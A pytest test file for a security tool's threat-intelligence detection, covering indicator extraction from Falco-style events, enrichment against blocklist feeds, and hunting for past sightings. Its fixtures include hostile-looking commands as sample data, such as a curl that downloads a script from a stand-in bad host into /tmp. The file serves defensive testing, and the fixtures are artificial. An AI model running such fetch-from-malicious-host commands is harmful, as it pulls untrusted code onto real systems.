from __future__ import annotations

import json
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sib_protocol.events import EventSummary, summarize
from sib_protocol.ids import EventId, HostName, LineNumber, StreamId
from sib_server.detection.indicators import hunt as hunting
from sib_server.detection.indicators.enrichment import enrich
from sib_server.detection.indicators.extraction import MAX_FOUND, observables_in, question_name
from sib_server.detection.indicators.hunt import hunt, seen_events
from sib_server.detection.indicators.index import Index
from sib_server.detection.indicators.kinds import Kind, Observable, recognise
from sib_server.detection.indicators.merge import Sighting
from sib_server.detection.indicators.store import update_lock, writing

NOW = 1_795_000_000
STREAM = StreamId("11111111-2222-4333-8444-555555555555")


@dataclass(frozen=True)
class Event:
    event_id: EventId
    host_name: HostName
    received_ns: int
    summary: EventSummary
    line: bytes


def event(number: int, host: str, fields: dict[str, object], when: str = "") -> Event:
    line = json.dumps({"rule": "r", "output_fields": fields, "time": when}).encode()
    return Event(EventId(STREAM, LineNumber(number)), HostName(host), number, summarize(line), line)


@pytest.fixture
def index(tmp_path: Path) -> Iterator[Index]:
    told = {
        "45.66.64.0/20": ("drop", 80, "SBL1", NOW - 50),
        "45.66.77.88": ("feodo", 90, "QakBot", NOW - 5000),
        "bad.net": ("threatfox", 60, "", NOW - 50),
        "http://bad.net/x": ("urlhaus", 50, "malware_download", NOW - 50),
    }
    with update_lock(tmp_path), writing(tmp_path, NOW) as writer:
        for text, (feed, confidence, note, added) in told.items():
            observable = recognise(text)
            assert observable is not None
            sighting = Sighting(feed, NOW - 9000, NOW - 600, added, NOW + 9000, confidence, note)
            writer.merge(feed, {observable: sighting})
    opened = Index.open(tmp_path, lambda: NOW)
    yield opened
    opened.close()


def found(fields: dict[str, object]) -> dict[str, str]:
    return {f.observable.value: f.field for f in observables_in(event(1, "h", fields).line)}


def test_what_stands_in_an_event() -> None:
    assert found(
        {
            "fd.name": "10.0.0.5:40112->45.66.77.88:443",
            "fd.sip": "45.66.77.88",
            "proc.cmdline": "curl -o /tmp/x.sh http://Bad.net:80/x?y=1 --resolve [2a0e::1]:443",
            "proc.exepath": "/usr/bin/curl.evil.net",
            "evt.arg": "sha " + "ab" * 32,
            "proc.pid": 7,
        }
    ) == {
        "10.0.0.5": "fd.name",
        "45.66.77.88": "fd.name",
        "http://bad.net/x?y=1": "proc.cmdline",
        "2a0e::1": "proc.cmdline",
        "ab" * 32: "evt.arg",
    }
    assert found({"fd.name": "2a0e::1:40112->2a0e::2:443"}) == {
        "2a0e::1": "fd.name",
        "2a0e::2": "fd.name",
    }
    assert found({"proc.cmdline": "ssh root@evil.net"}) == {}
    assert found({"proc.cmdline": "dig evil.net 1.2.3.4.5 45.66.77.88."}) == {
        "evil.net": "proc.cmdline",
        "45.66.77.88": "proc.cmdline",
    }


def test_questions_as_falco_shows_them() -> None:
    # As the real engine wrote them for a question by glibc.
    assert question_name("_............deep.badhost.net.....") == Observable(
        Kind.DOMAIN, "deep.badhost.net"
    )
    assert question_name(".4...........www.badhost.net.....") == Observable(
        Kind.DOMAIN, "www.badhost.net"
    )
    assert question_name(".....") is None
    assert found({"evt.buffer": "_............deep.badhost.net....."})["deep.badhost.net"]


def test_what_is_not_looked_into() -> None:
    assert observables_in(b"not json") == ()
    assert observables_in(b"[" * 100_000) == ()
    assert observables_in(b'{"output_fields": 5}') == ()
    assert observables_in(b"x" * 1_100_000) == ()
    own = json.dumps({"source": "sib", "output_fields": {"sib.indicator": "45.66.77.88"}})
    assert observables_in(own.encode()) == ()
    many = " ".join(f"45.66.{n // 250}.{n % 250}" for n in range(500))
    assert len(observables_in(event(1, "h", {"x": many}).line)) == MAX_FOUND


@given(st.dictionaries(st.sampled_from(["fd.name", "x", "evt.buffer"]), st.text(max_size=200)))
def test_no_event_makes_extraction_raise(fields: dict[str, object]) -> None:
    line = json.dumps({"output_fields": fields}).encode()
    for place in observables_in(line):
        assert place.field in fields


def test_enrichment(index: Index) -> None:
    line = event(1, "h", {"fd.sip": "45.66.77.88", "fd.cip": "10.0.0.1", "x": "a.bad.net"}).line
    enriched = enrich(line, index, now=NOW)
    assert [(e.field, e.indicator, e.relation, e.confidence, e.tier) for e in enriched] == [
        ("fd.sip", "45.66.77.88", "exact", 90, "high"),
        ("fd.sip", "45.66.64.0/20", "inside", 80, "high"),
        ("x", "bad.net", "below", 60, "medium"),
    ]
    first = enriched[0]
    assert (first.feeds, first.notes, first.age_seconds) == (("feodo",), ("QakBot",), 600)
    assert first.kind == "address"
    assert first.seen_before == ()
    assert enrich(event(1, "h", {"fd.sip": "8.8.8.8"}).line, index, now=NOW) == ()


def test_hunting_and_where_it_was_seen_before(index: Index) -> None:
    address = Observable(Kind.ADDRESS, "45.66.77.88")
    events = [
        event(1, "web-1", {"fd.sip": "45.66.77.88"}, "2026-11-01T00:00:00Z"),
        event(2, "web-1", {"fd.sip": "45.66.77.88", "x": "45.66.77.88 45.66.77.88"}),
        event(3, "db-1", {"fd.sip": "45.66.77.1"}),
        event(4, "db-1", {"fd.sip": "8.8.8.8", "fd.cip": "10.0.0.1"}),
        event(5, "db-1", {"proc.cmdline": "curl http://bad.net/x"}),
    ]
    report = hunt(events, index)
    assert report.searched == 5
    (seen,) = report.seen(address)
    assert (seen.host, seen.events, seen.event) == ("web-1", 2, f"{STREAM}/1")
    assert seen.first_ns == 2
    assert {o.value for o in report.indicators} == {
        "45.66.77.88", "45.66.64.0/20", "bad.net", "http://bad.net/x",
    }  # fmt: skip
    network = Observable(Kind.NETWORK, "45.66.64.0/20")
    assert [s.host for s in report.seen(network)] == ["web-1", "db-1"]
    enriched = enrich(events[0].line, index, now=NOW, history=report.seen)
    assert enriched[0].seen_before == report.seen(address)
    # Only what is new, or only what was asked for.
    assert address not in hunt(events, index, added_since=NOW - 100).indicators
    assert list(hunt(events, index, only=frozenset([address])).indicators) == [address]
    lines = [json.loads(line) for line in seen_events(report, time_ns=NOW * 10**9)]
    assert len(lines) == 5
    assert {line["rule"] for line in lines} == {"SIB intel seen before"}
    worst = next(line for line in lines if line["output_fields"]["sib.indicator"] == "45.66.77.88")
    assert worst["priority"] == "Critical"
    assert worst["output_fields"]["sib.host"] == "web-1"


def test_a_hunt_has_a_bound(index: Index, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(hunting, "MAX_PAIRS", 2)
    events = [event(n, f"h{n}", {"fd.sip": "45.66.77.88"}) for n in range(4)]
    report = hunt(events, index)
    assert report.truncated
    assert sum(len(report.seen(o)) for o in report.indicators) == 2
